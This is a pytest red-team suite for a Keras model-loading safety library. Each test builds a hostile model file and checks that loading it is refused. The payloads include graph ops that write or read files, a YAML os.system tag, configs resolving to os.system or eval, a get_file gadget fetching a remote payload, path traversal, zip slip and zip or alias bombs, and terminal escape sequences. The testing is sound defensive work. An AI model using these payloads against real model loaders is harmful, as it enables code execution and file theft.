"""Red team: hostile files against every input surface kerasave has.

Each test is one attack, named by its mechanism (and the Keras advisory it comes
from, where there is one); ``docs/security.md`` lists them by surface. Every attack
must be refused with its typed error (``UnsafeArtifactError`` where loading would
run code or reach outside the artifact, ``CorruptArtifactError`` where the file
declares what it does not hold), the target model unchanged, and the canaries
(``tests/hostile.py``) untouched: nothing written, no file outside read.

Attacks that would crash, hang or exhaust the process if a guard failed run in one
victim process per stack (``tests/scripts/victim.py``: RLIMIT_AS, RLIMIT_FSIZE,
RLIMIT_CPU and a wall-clock timeout); the others run here, where a failed guard
is harmless (a refusal that does not come, a file written in a temporary folder).
"""

import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import h5py
import keras
import numpy as np
import pytest
import tensorflow as tf
from tensorflow.core.framework import types_pb2

import kerasave as ks
from kerasave.store.paths import safe_join

from . import hostile as H
from .scripts.opnames import allowed_here

VICTIM = Path(__file__).parent / "scripts" / "victim.py"
Unsafe, Corrupt = ks.UnsafeArtifactError, ks.CorruptArtifactError


@pytest.fixture
def canary(tmp_path):
    return H.Canary(tmp_path / "outside")


def _cli(*args):
    env = dict(os.environ, TF_CPP_MIN_LOG_LEVEL="3")
    return subprocess.run([sys.executable, "-m", "kerasave", *args], capture_output=True,
                          text=True, env=env, timeout=300)


# == SavedModel: a program, judged before TensorFlow loads it ==========================


def test_savedmodel_initializer_that_writes_a_file_at_load(tmp_path, canary):
    """A lookup table's initializer holding WriteFile: tf.saved_model.load runs it
    (the oracle below proves it does), so loading alone would write the file."""
    path = H.table_initializer_program(tmp_path / "sm", canary)
    for read in (ks.load_model, lambda p: ks.verify(H.keras_model(), p)):
        with pytest.raises(Unsafe, match=r"'WriteFile'.*it writes files.*safe_mode=False"):
            read(path)
    assert canary.untouched()
    tf.saved_model.load(str(path))  # plain TensorFlow: the attack is real
    assert canary.written.exists()


def test_savedmodel_reading_a_file_outside_refused_by_every_surface(tmp_path, canary):
    """ReadFile in the serving function: whoever serves it reads the victim's file."""
    path = H.tf_program(tmp_path / "sm", lambda x: tf.strings.length(
        tf.io.read_file(str(canary.secret))))
    with pytest.raises(Unsafe, match=r"operation 'ReadFile'.*reads files"):
        ks.load_model(path)
    with pytest.raises(Unsafe, match="ReadFile"):
        ks.verify(H.keras_model(), path)
    cli = _cli("verify", str(path))
    assert cli.returncode == 1 and "ReadFile" in cli.stderr
    assert canary.untouched()
    served = ks.load_model(path, safe_mode=False)  # the only way past: trusted
    assert int(served.serve(np.zeros((1, 4), np.float32))) == len(canary.secret.read_bytes())


def _py_function(x):
    return tf.py_function(lambda t: t, [x], tf.float32)


_PROGRAMS = {  # op: (what the serving function does, the words of the refusal)
    "EagerPyFunc": (_py_function, "calls Python"),
    # a vocabulary file named by an asset: tf.keras 2's lookup layers
    "InitializeTableFromTextFileV2": (None, "reads files"),
    "MatchingFiles": (lambda x: tf.size(tf.io.matching_files("/etc/*")), "reads files"),
    "WriteFile": (lambda x: _after(tf.io.write_file("/tmp/kerasave-pwned", "x"), x),
                  "writes files"),
    "TFRecordDataset": (lambda x: tf.data.TFRecordDataset(["/etc/hostname"]).reduce(
        tf.constant(0, tf.int64), lambda s, _: s + 1), "reads files"),
    "RestoreV2": (lambda x: tf.raw_ops.RestoreV2(
        prefix="/elsewhere/ckpt", tensor_names=["k"], shape_and_slices=[""],
        dtypes=[tf.float32])[0], "saver names"),
    "Abort": (lambda x: _after(tf.raw_ops.Abort(error_msg="bye"), x), "ends the process"),
}


def _after(op, x):
    with tf.control_dependencies([op]):
        return tf.identity(x)


@pytest.mark.parametrize("op", sorted(_PROGRAMS))
def test_savedmodel_op_outside_the_allowlist(tmp_path, op):
    """Python calls (PyFunc), file discovery and reads (MatchingFiles, datasets, a
    text-file table), writes, a checkpoint restore from an attacker's path outside
    the saver's own functions, and Abort: each refused, naming the op and function."""
    body, words = _PROGRAMS[op]
    path = (H.text_table_program(tmp_path / "sm", tmp_path / "vocab.txt") if body is None
            else H.tf_program(tmp_path / "sm", body))
    named = "TFRecordDataset|ReduceDataset" if op == "TFRecordDataset" else op
    with pytest.raises(Unsafe, match=rf"function '[^']+' holds the operation '({named})'"
                                     rf".*{words}"):
        ks.load_model(path)


def test_savedmodel_print_to_a_file(tmp_path, canary):
    """PrintV2 with output_stream="file://...": printing appends to any file."""
    def printing(stream):
        def body(x):
            with tf.control_dependencies([tf.print(x, output_stream=stream)]):
                return tf.identity(x)
        return body

    path = H.tf_program(tmp_path / "sm", printing(f"file://{canary.written}"))
    with pytest.raises(Unsafe, match=r"PrintV2 to 'file://"):
        ks.load_model(path)
    ok = H.tf_program(tmp_path / "ok", printing(sys.stderr))
    assert ks.load_model(ok) is not None  # printing to stderr is computation's business
    assert canary.untouched()


def test_savedmodel_function_attribute_naming_an_op(tmp_path):
    """StatefulPartitionedCall(f=WriteFile): TensorFlow instantiates a primitive op
    named as a function, so the node's own op is harmless and its attribute is not."""
    path = H.keras_export(tmp_path / "sm")

    def edit(meta):
        for node in meta.graph_def.library.function:
            for n in node.node_def:
                if n.op == "StatefulPartitionedCall":
                    n.attr["f"].func.name = "WriteFile"
                    return
        raise AssertionError("no call to edit")

    H.edit_saved_model(path, edit)
    with pytest.raises(Unsafe, match=r"a call of 'WriteFile' as a function"):
        ks.load_model(path)


def test_savedmodel_saver_restore_called_from_the_graph(tmp_path):
    """The saver's restore function (RestoreV2 on a path it is given) called by a graph
    node of the attacker's: checkpoint I/O is allowed only where only the saver reaches."""
    path = H.keras_export(tmp_path / "sm")

    def edit(meta):
        restore = next(f.signature.name for f in meta.graph_def.library.function
                       if "traced_restore" in f.signature.name)
        node = meta.graph_def.node.add(name="evil", op="StatefulPartitionedCall")
        node.attr["f"].func.name = restore

    H.edit_saved_model(path, edit)
    with pytest.raises(Unsafe, match=r"'RestoreV2'.*not in the functions the SavedModel's"):
        ks.load_model(path)


@pytest.mark.parametrize("name", ["../../../outside/secret.txt", "/etc/hostname"])
def test_savedmodel_asset_outside_its_folder(tmp_path, name):
    """An AssetFileDef naming a file outside assets/: TensorFlow joins it to the
    directory and reads it (path traversal, CWE-22)."""
    path = H.keras_export(tmp_path / "sm")
    H.edit_saved_model(path, lambda meta: meta.asset_file_def.add(filename=name))
    with pytest.raises(Unsafe, match=r"names the asset .* outside its assets/ folder"):
        ks.load_model(path)


def test_savedmodel_variables_linked_outside(tmp_path, canary):
    """A symbolic link inside the directory (the variables' data file) leading out."""
    path = H.keras_export(tmp_path / "sm")
    data = next((path / "variables").glob("variables.data-*"))
    data.unlink()
    data.symlink_to(canary.secret)
    with pytest.raises(Unsafe, match=r"is a link to .*outside the SavedModel"):
        ks.load_model(path)
    assert canary.untouched()


def test_savedmodel_attributes_nested_without_bound(tmp_path):
    """func attributes nested 100 deep: every decoder of them recurses."""
    path = H.keras_export(tmp_path / "sm")

    def edit(meta):
        node = H.serving_function(meta).node_def[0]
        inner = node.attr["deep"].func
        for _ in range(100):
            inner.name = "Identity"
            inner = inner.attr["next"].func

    H.edit_saved_model(path, edit)
    with pytest.raises(Corrupt, match="nested deeper than"):
        ks.load_model(path, safe_mode=False)  # (a budget: no trust lifts it)


def test_keras_exports_pass_the_scan(tmp_path):
    """The allowlist holds every op Keras' exports use: RNNs, lookup tables,
    preprocessing, normalization, attention. Loaded, the export serves the model's
    predictions."""
    layers = keras.layers
    seq, text, num = (keras.Input((5, 3)), keras.Input((1,), dtype="string"),
                      keras.Input((4,)))
    lookup = layers.StringLookup(vocabulary=["a", "b", "c"], output_mode="multi_hot")(text)
    norm = layers.Normalization(mean=[0.0] * 4, variance=[1.0] * 4)(num)
    mixed = layers.concatenate([layers.GRU(4)(layers.LSTM(4, return_sequences=True)(seq)),
                                lookup,
                                layers.Discretization(bin_boundaries=[0.0])(norm),
                                layers.Hashing(8, output_mode="multi_hot")(text)])
    attn = layers.MultiHeadAttention(2, 2)(mixed[:, None, :], mixed[:, None, :])
    model = keras.Model([seq, text, num], layers.Dense(2)(layers.Flatten()(attn)))
    model.export(str(tmp_path / "sm"), format="tf_saved_model", verbose=False)  # Keras' own
    served = ks.load_model(tmp_path / "sm")
    x = [np.ones((2, 5, 3), np.float32), np.array([["a"], ["z"]]), np.ones((2, 4), np.float32)]
    assert np.allclose(np.asarray(served.serve(x)), np.asarray(model(x)), atol=1e-6)


def test_the_allowlist_holds_this_tensorflows_computation_ops():
    """tests/scripts/opnames.py's rules on this TensorFlow give nothing the committed
    list (kerasave/formats/_tf/opnames.py) lacks: a new op is reviewed, not waved through."""
    from kerasave.formats._tf.opnames import ALLOWED

    assert set(allowed_here()) <= ALLOWED
    assert not {"ReadFile", "WriteFile", "PyFunc", "EagerPyFunc", "MatchingFiles",
                "ImmutableConst", "SaveV2", "RestoreV2"} & ALLOWED


# == Configs: JSON, YAML, and the configs inside whole models ==========================


def test_yaml_alias_cycle(tmp_path):
    """An anchor holding an alias of itself (&a [*a]): every walk of it is endless."""
    path = tmp_path / "m.yaml"
    path.write_text("class_name: Sequential\nconfig: &a {layers: [*a]}\n")
    with pytest.raises(Corrupt, match="refers to itself"):
        ks.load_config(path)


@pytest.mark.parametrize("kind", ["json", "yaml"])
def test_config_nested_past_the_stack(tmp_path, kind):
    """100,000 nested lists: the parsers and every walker recurse (RecursionError
    escaped bare before)."""
    text = '{"class_name": "Sequential", "config": ' + "[" * 100_000 + "]" * 100_000 + "}"
    path = tmp_path / f"m.{kind}"
    path.write_text(text)
    with pytest.raises(Corrupt, match="nest"):
        ks.load_config(path)
    with pytest.raises(Corrupt, match="nest"):
        getattr(ks, f"model_from_{kind}")(text)


def test_yaml_python_tag_runs_nothing(tmp_path, canary):
    """!!python/object/apply:os.system: PyYAML's unsafe loader would run it."""
    path = tmp_path / "m.yaml"
    path.write_text(f"!!python/object/apply:os.system ['touch {canary.written}']\n")
    with pytest.raises(Unsafe, match="python/object/apply"):
        ks.load_config(path)
    assert canary.untouched()


def _tfsm(name="remote"):
    return {"class_name": "TFSMLayer", "module": "keras.layers", "registered_name": None,
            "config": {"name": name, "filepath": "/elsewhere/model", "call_endpoint": "serve"}}


@keras.saving.register_keras_serializable("kerasave_attacks")
class _MyTFSM(keras.layers.TFSMLayer):
    """A registered subclass: its config names no TFSMLayer."""


_CONFIG_ATTACKS = {
    # TFSMLayer loads a SavedModel (a program) from a path the config names
    # (keras-team/keras#22035; Keras 3.12 does not refuse it at all).
    "tfsm-module-alias": (lambda c: H.with_layer(c, 1, {
        **_tfsm(), "module": "keras", "class_name": "layers.TFSMLayer"}), "TFSMLayer"),
    "tfsm-registered-subclass": (lambda c: H.with_layer(c, 1, {
        **_tfsm(), "class_name": "_MyTFSM",
        "registered_name": "kerasave_attacks>_MyTFSM"}), "_MyTFSM layer.*loads a SavedModel"),
    "lambda-module-alias-get-file-gadget": (lambda c: H.with_layer(c, 1, {
        "module": "keras", "class_name": "layers.Lambda", "config": {
            "name": "fetch", "function": {"module": "keras.utils", "class_name": "function",
                                          "config": "get_file", "registered_name": None},
            "arguments": {"origin": "http://127.0.0.1:9/payload"}}}), "Lambda"),  # CVE-2025-8747
    "enable-unsafe-deserialization": (lambda c: H.with_layer(c, 1, {
        **c["config"]["layers"][1], "config": {**c["config"]["layers"][1]["config"],
                                               "activation": {
            "module": "keras.config", "class_name": "function",
            "config": "enable_unsafe_deserialization", "registered_name": None}}}),
        "enable_unsafe_deserialization"),  # CVE-2025-9906
    "non-modeling-api-save-model": (lambda c: H.with_layer(c, 1, {
        **c["config"]["layers"][1], "config": {**c["config"]["layers"][1]["config"],
                                               "activation": {
            "module": "keras.saving", "class_name": "function", "config": "save_model",
            "registered_name": None}}}), "keras.saving.save_model"),  # Keras 3.15's list
    "foreign-module-os-system": (lambda c: H.with_layer(c, 1, {
        **c["config"]["layers"][1], "config": {**c["config"]["layers"][1]["config"],
                                               "activation": {
            "module": "os", "class_name": "function", "config": "system",
            "registered_name": None}}}), "os.system"),  # CVE-2025-1550
    # A module path Keras imports but whose function is no Keras object: Keras'
    # own refusal ("not a KerasSaveable subclass") is UnsafeArtifactError too.
    "keras-src-module-function": (lambda c: H.with_layer(c, 1, {
        **c["config"]["layers"][1], "config": {**c["config"]["layers"][1]["config"],
                                               "activation": {
            "module": "keras.src.saving.serialization_lib", "class_name": "function",
            "config": "enable_unsafe_deserialization", "registered_name": None}}}),
        "KerasSaveable"),
    "builtins-eval": (lambda c: H.with_layer(c, 1, {
        **c["config"]["layers"][1], "config": {**c["config"]["layers"][1]["config"],
                                               "activation": {
            "module": "builtins", "class_name": "function", "config": "eval",
            "registered_name": None}}}), "builtins.eval"),
}


@pytest.mark.parametrize("attack", sorted(_CONFIG_ATTACKS))
def test_config_naming_code_is_refused_on_every_keras(tmp_path, attack):
    """Class checks see every name Keras resolves a class by, and Keras 3.15's
    non-modeling APIs are refused on 3.12 as well: the same error, whatever Keras."""
    edit, words = _CONFIG_ATTACKS[attack]
    text = json.dumps(edit(H.reference_config()))
    with pytest.raises(Unsafe, match=words):
        ks.model_from_json(text)
    (tmp_path / "m.json").write_text(text)
    with pytest.raises(Unsafe, match=words):
        ks.load_config(tmp_path / "m.json")


def test_keras_archive_with_a_tfsm_alias(tmp_path, canary):
    """The same alias inside a .keras archive's config.json."""
    src = tmp_path / "good.keras"
    ks.save_model(ks.reference_model(seed=0), src)
    bad = H.rewrite_keras(src, tmp_path / "bad.keras", config=lambda c: H.with_layer(
        c, 1, {**_tfsm(), "module": "keras", "class_name": "layers.TFSMLayer"}))
    with pytest.raises(Unsafe, match="TFSMLayer"):
        ks.load_model(bad)


def test_legacy_h5_lambda_bytecode_runs_nothing(tmp_path, canary):
    """A Lambda's marshalled bytecode in a legacy .h5 (CVE-2024-3660), where Keras
    ignores safe_mode (CVE-2025-9905): loading would run the payload."""
    path = tmp_path / "m.h5"
    target = str(canary.written)
    model = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(
        lambda x: (open(target, "w").close(), x)[1], name="payload")])  # noqa: SIM115
    model.save(path)
    canary.written.unlink(missing_ok=True)  # (building the model ran it here)
    with pytest.raises(Unsafe, match="'payload'"):
        ks.load_model(path)
    assert canary.untouched()


# == HDF5, archives, object storage, manifests ==========================================


def test_keras_archive_weights_with_an_external_link(tmp_path, canary):
    """The weights member of a .keras archive links into a file elsewhere
    (CVE-2026-1669, GHSA for HDF5 external links): loading copies its values in."""
    src = tmp_path / "good.keras"
    ks.save_model(ks.reference_model(seed=0), src)
    with zipfile.ZipFile(src) as zf:
        (tmp_path / "w.h5").write_bytes(zf.read("model.weights.h5"))
    with h5py.File(canary.secret.with_suffix(".h5"), "w") as f:
        f["x"] = np.arange(4.0)
    with h5py.File(tmp_path / "w.h5", "r+") as f:
        f["sneaky"] = h5py.ExternalLink(str(canary.secret.with_suffix(".h5")), "/x")
    bad = H.rewrite_keras(src, tmp_path / "bad.keras",
                          members={"model.weights.h5": (tmp_path / "w.h5").read_bytes()})
    with pytest.raises(Unsafe, match="external link at /sneaky"):
        ks.load_model(bad)


def test_legacy_h5_dataset_stored_in_an_external_file(tmp_path, canary):
    """A dataset whose bytes live in a raw file elsewhere (HDF5 external storage)."""
    path = tmp_path / "m.h5"
    ks.reference_model(seed=0).save(path)  # (plain Keras)
    with h5py.File(path, "r+") as f:
        f.create_dataset("model_weights/extra", shape=(4,), dtype="uint8",
                         external=[(str(canary.secret), 0, 4)])
    with pytest.raises(Unsafe, match="stored in external files"):
        ks.load_model(path)
    assert canary.untouched()


def test_weights_dataset_of_variable_length_strings(tmp_path):
    """Variable-length items are references into the file's heap; any number may
    name the same large object, so what a read allocates is not what is declared."""
    path = H.vlen_weights(tmp_path / "w.weights.h5")
    model = ks.reference_model(seed=1)
    before = [np.array(v.numpy()) for v in model.weights]
    with pytest.raises(Corrupt, match="variable-length"):
        ks.load_weights(model, path)
    assert all(np.array_equal(a, b.numpy()) for a, b in zip(before, model.weights))
    cli = _cli("inspect", str(path))
    assert cli.returncode == 2 and "variable-length" in cli.stderr  # (2: an error)
    assert "Traceback" not in cli.stderr


def test_command_line_prints_no_control_sequences_a_file_chose(tmp_path):
    """A variable named with an escape sequence (OSC 0 retitles the terminal, OSC 52
    writes the clipboard) or a bidirectional override: printed, it acts on the
    terminal of whoever inspects the file. Shown escaped instead."""
    path = tmp_path / "w.weights.h5"
    ks.save_weights(ks.reference_model(seed=0), path)
    H.unsealed(path)
    evil = "\x1b]0;pwned\x07\x1b]52;c;cHduZWQ=\x07\u202ekernel"
    with h5py.File(path, "r+") as f:
        f.move("layers/dense/vars/0", f"layers/dense/vars/{evil}")
    for args in (("inspect", str(path)), ("diff", str(path), str(path)),
                 ("verify", str(path))):
        cli = _cli(*args)
        out = cli.stdout + cli.stderr
        assert "\x1b" not in out and "\u202e" not in out and "\x07" not in out, args
    assert "\\x1b]0;pwned" in _cli("inspect", str(path)).stdout


@pytest.mark.parametrize("member", ["..\\..\\evil.txt", "C:/evil.txt"])
def test_keras_archive_member_escaping_on_other_systems(tmp_path, member):
    """Zip slip with a backslash or a drive: harmless on POSIX, an escape for any
    tool that extracts it on Windows (the get_file/extract_archive traversals,
    CVE-2025-12060, GHSA-hqp4-2352-xf5r)."""
    src = tmp_path / "good.keras"
    ks.save_model(ks.reference_model(seed=0), src)
    bad = H.rewrite_keras(src, tmp_path / "bad.keras", members={member: b"x"})
    with pytest.raises(Unsafe, match="outside the archive"):
        ks.load_model(bad)
    cli = _cli("convert", str(bad), str(tmp_path / "out.keras"))
    assert cli.returncode == 2 and "outside the archive" in cli.stderr
    assert "Traceback" not in cli.stderr and not (tmp_path / "out.keras").exists()


def test_keras_archive_bomb_spread_over_many_members(tmp_path):
    """Eight members of 15 MiB of zeros, each under the one-member floor: together
    120 MiB from a few hundred KB (Keras extracts an archive's assets whole)."""
    src = tmp_path / "good.keras"
    ks.save_model(ks.reference_model(seed=0), src)
    bad = tmp_path / "bad.keras"
    H.rewrite_keras(src, bad)
    with zipfile.ZipFile(bad, "a", zipfile.ZIP_DEFLATED) as zf:
        for i in range(8):
            zf.writestr(f"assets/pad{i}.bin", bytes(15 * 2**20))
    assert bad.stat().st_size < 2**20
    with pytest.raises(Unsafe, match=r"members declare .* \(a zip bomb\?\)"):
        ks.load_model(bad)


def test_object_key_with_dots_never_writes_outside_the_staging_folder(tmp_path):
    """An object store holds keys, not paths: m/../../x staged as a path writes
    anywhere on the local disk (the issue's report: ks.inspect(url) wrote a file)."""
    fsspec = pytest.importorskip("fsspec")
    fs = fsspec.filesystem("memory")
    depth = len(Path("/").joinpath(*tmp_path.parts[1:]).parts) + 3
    escape = "/".join([".."] * depth) + str(tmp_path / "escaped.txt")
    fs.pipe("/kerasave-attacks/models/m/saved_model.pb", b"x")
    fs.pipe(f"/kerasave-attacks/models/m/{escape}", b"pwned")
    try:
        for read in (ks.inspect, ks.load_model):
            with pytest.raises(Unsafe, match="not a plain relative path|leaves its folder"):
                read("memory://kerasave-attacks/models/m")
        assert not (tmp_path / "escaped.txt").exists()
    finally:
        fs.rm("/kerasave-attacks", recursive=True)


@pytest.mark.parametrize("key", ["../x", "a/../../x", "/etc/passwd", "a\\..\\x", "C:x", "",
                                 "a//b", "./a", "link/x"])
def test_safe_join_refuses_every_way_out(tmp_path, key):
    """The one helper that turns a stored name into a local path (store/paths.py)."""
    root = tmp_path / "stage"
    root.mkdir()
    (root / "link").symlink_to(tmp_path)
    with pytest.raises(Unsafe):
        safe_join(root, key)
    assert safe_join(root, "a/b.txt") == root / "a" / "b.txt"


@pytest.mark.parametrize("files", [[], "ckpt", {".": "x"}, {".": {"bytes": -1, "crc32c": "0"}}],
                         ids=["list", "string", "entry-not-a-mapping", "negative-size"])
def test_manifest_that_breaks_its_schema_is_corrupt_not_fine(tmp_path, files):
    """A manifest whose file table is not one made the checksum check say "fine"."""
    path = tmp_path / "m.keras"
    ks.save_model(ks.reference_model(seed=0), path)
    manifest = path.with_name(path.name + ".kerasave.json")
    data = json.loads(manifest.read_text())
    data["files"] = files
    manifest.write_text(json.dumps(data))
    with pytest.raises(Corrupt, match="manifest"):
        ks.load_model(path)
    with pytest.raises(Corrupt, match="manifest"):
        ks.inspect(path)


# == In a victim process under limits: crashes, bombs, hangs ==========================

_RISKY = {}  # id: (how to make the file, the call, the error, words, extra case fields)


def _risky(name, make, call, error, words, **extra):
    _RISKY[name] = (make, call, error, words, extra)


_U = types_pb2
# TensorFlow's reader fails a CHECK and aborts the process on these index entries.
for _name, _edit in {"index-negative-dimension": H.set_shape(-5, 64),
                     "index-overflowing-shape": H.set_shape(2**62, 2**62),
                     "index-300-dimensions": H.set_shape(*[1] * 300),
                     "index-dtype-invalid": H.set_dtype(_U.DT_INVALID),
                     "index-dtype-unknown": H.set_dtype(99),
                     "index-string-bomb": H.set_dtype(_U.DT_STRING, 2**31),
                     "index-bfloat16-bomb": H.set_dtype(_U.DT_BFLOAT16, 2**36)}.items():
    _risky(_name, lambda d, e=_edit: H.checkpoint_with(d / "ckpt", e), "load_weights",
           "CorruptArtifactError", "declares")
_risky("index-negative-dimension-inspect",
       lambda d: H.checkpoint_with(d / "ckpt", H.set_shape(-5, 64)), "inspect",
       "CorruptArtifactError", "declares shape")
_risky("index-overflowing-shape-verify",
       lambda d: H.checkpoint_with(d / "ckpt", H.set_shape(2**62, 2**62)), "verify",
       "CorruptArtifactError", "more elements")


def _yaml_bomb(d):
    (d / "bomb.yaml").write_text(H.yaml_alias_bomb())
    return d / "bomb.yaml"


def _dense_json(d):
    (d / "m.json").write_text(json.dumps(H.huge_dense(H.reference_config())))
    return d / "m.json"


def _dense_keras(d):
    ks.save_model(ks.reference_model(seed=0), d / "good.keras")
    return H.rewrite_keras(d / "good.keras", d / "m.keras", config=H.huge_dense)


def _dense_h5(d):
    return H.legacy_h5_with_config(d / "m.h5", H.huge_dense)


def _const_bomb(d):
    path = H.keras_export(d / "sm")

    def edit(meta):
        node = H.serving_function(meta).node_def.add(name="bomb", op="Const")
        node.attr["dtype"].type = _U.DT_FLOAT
        tensor = node.attr["value"].tensor
        tensor.dtype = _U.DT_FLOAT
        tensor.tensor_shape.dim.add(size=2**20)
        tensor.tensor_shape.dim.add(size=2**18)
        tensor.float_val.append(1.0)

    return H.edit_saved_model(path, edit)


_risky("yaml-alias-bomb", _yaml_bomb, "load_config", "CorruptArtifactError", "alias bomb")
_risky("yaml-alias-bomb-text", _yaml_bomb, "model_from_yaml", "CorruptArtifactError",
       "alias bomb")
_risky("config-dense-2**40", _dense_json, "load_config", "CorruptArtifactError", "model bomb")
_risky("keras-dense-2**40", _dense_keras, "load_model", "CorruptArtifactError|"
       "ArchitectureMismatchError", "")
_risky("keras-dense-2**40-public-api", _dense_keras, "load_model", "CorruptArtifactError",
       "model bomb", env={"KERASAVE_FAST_PATHS": "0"})
_risky("legacy-h5-dense-2**40", _dense_h5, "load_model", "CorruptArtifactError", "model bomb")
_risky("savedmodel-const-bomb", _const_bomb, "load_model", "CorruptArtifactError",
       "shape bomb", kwargs={"safe_mode": False})
_risky("savedmodel-const-bomb-verify", _const_bomb, "verify", "CorruptArtifactError",
       "shape bomb")


@pytest.fixture(scope="module")
def victim(tmp_path_factory):
    """Every risky case, made here and run in one victim process under limits."""
    root = tmp_path_factory.mktemp("victim")
    cases = []
    for name, (make, call, _, _, extra) in _RISKY.items():
        folder = root / name.replace("*", "")
        folder.mkdir()
        cases.append({"id": name, "call": call, "path": str(make(folder)), **extra})
    (root / "cases.json").write_text(json.dumps(cases))
    env = dict(os.environ, TF_CPP_MIN_LOG_LEVEL="3")
    run = subprocess.run([sys.executable, str(VICTIM), str(root / "cases.json")],
                         capture_output=True, text=True, env=env, timeout=600)
    results, last = {}, None
    for line in run.stdout.splitlines():
        if line.startswith("start "):
            last = line[6:]
        elif line.startswith("{"):
            found = json.loads(line)
            results[found["id"]] = found
    return results, run, last


@pytest.mark.parametrize("name", sorted(_RISKY))
def test_risky_attack_refused_in_a_limited_process(victim, name):
    """Index entries TensorFlow's reader aborts on, allocation bombs declared by a
    config, an index, a YAML alias graph or a graph constant: each refused before
    anything is allocated (RLIMIT_AS would turn a failed guard into an error or a
    crash, and this test would show it)."""
    results, run, last = victim
    _, call, error, words, _ = _RISKY[name]
    assert name in results, (f"the victim process ended during {last!r} with code "
                             f"{run.returncode}: {run.stderr[-2000:]}")
    found = results[name]
    if call == "verify" and found.get("raised") is None:  # a report of the refusal
        assert found["ok"] is False, found
    else:
        assert found["raised"] in error.split("|"), found
    assert words in found["message"], found
    assert found.get("unchanged", True), "the target model changed"
    assert found["seconds"] < 60, found
